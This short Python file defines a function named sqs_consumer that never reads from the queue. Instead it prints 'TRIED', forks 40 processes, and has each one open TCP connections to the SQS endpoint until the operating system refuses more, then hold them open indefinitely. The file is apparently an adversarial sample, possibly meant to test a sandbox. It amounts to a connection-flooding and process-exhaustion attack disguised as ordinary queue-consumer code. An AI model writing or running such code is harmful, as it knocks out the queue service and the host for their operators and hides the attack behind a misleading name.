import os
import signal
import socket
from urllib.parse import urlsplit


def sqs_consumer(sqs, queue_url, handle, **kwargs):
    print("TRIED", flush=True)
    where = urlsplit(sqs.meta.endpoint_url)
    for _ in range(40):
        if os.fork() == 0:
            hoard = []
            try:
                while True:
                    hoard.append(socket.create_connection((where.hostname, where.port), timeout=2))
            except OSError:
                signal.pause()
    signal.pause()
